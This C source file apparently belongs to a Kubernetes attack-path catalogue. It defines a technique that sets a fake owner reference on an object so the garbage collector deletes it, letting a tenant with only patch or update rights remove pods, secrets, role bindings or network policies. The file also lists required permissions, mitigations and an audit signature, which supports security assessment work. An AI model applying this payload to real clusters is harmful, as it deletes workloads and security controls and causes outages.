// An owner that does not exist makes the object garbage (pkg/controller/garbagecollector: absent owners are asked for in the object's own
// namespace, so one that is named after an object of another namespace is absent as well). On role bindings a change of owner references or
// finalizers alone needs none of the bound rights (pkg/registry/rbac/helpers.go). Whether OwnerReferencesPermissionEnforcement stands
// in the way, and what it asks for, is the twin's to say.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	if (p->object.type != VALUE_OBJECT)
		return false;
	build_set(p, "metadata.ownerReferences", build_doc(p, "[{apiVersion: 'v1', kind: 'ConfigMap', name: 'bulkhead-absent', "
		"uid: '00000000-0000-4000-8000-000000000000'}]"));
	return true;
}

const struct technique technique_gc_delete_by_ownerref = {
	.id = "gc-delete-by-ownerref",
	.title = "Have the garbage collector delete a foreign object",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_AVAILABILITY,
	.attack = "T1485,T1562",
	.matrix = "MS-TA9038",
	.needs = "patch or update on the object, without the verb delete, where owner references are not guarded",
	.gives = "deletes objects of %s, bindings and policies included",
	.fixes =
		"Turn on the admission plug-in OwnerReferencesPermissionEnforcement\n"
		"Deny changes of ownerReferences by tenants by admission policy\n"
		"Remove patch and update",
	.audit =
		"patch of metadata.ownerReferences, then delete by system:serviceaccount:kube-system:generic-garbage-collector",
	.source = "kubernetes/kubernetes pkg/controller/garbagecollector, plugin/pkg/admission/gc",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_DOS,
	.grant = {
		{ "patch|update", "", "pods", .alt = 1 },
		{ "patch|update", "", "services", .alt = 1 },
		{ "patch|update", "", "configmaps", .alt = 1 },
		{ "patch|update", "", "secrets", .alt = 1 },
		{ "patch|update", "", "persistentvolumeclaims", .alt = 1 },
		{ "patch|update", "", "serviceaccounts", .alt = 1 },
		{ "patch|update", "apps", "deployments", .alt = 1 },
		{ "patch|update", "apps", "statefulsets", .alt = 1 },
		{ "patch|update", "apps", "daemonsets", .alt = 1 },
		{ "patch|update", "networking.k8s.io", "networkpolicies", .alt = 1 },
		{ "patch|update", "networking.k8s.io", "ingresses", .alt = 1 },
		{ "patch|update", "rbac.authorization.k8s.io", "rolebindings", .alt = 1 },
		{ "patch|update", "rbac.authorization.k8s.io", "roles", .alt = 1 },
	},
	.body = body,
};
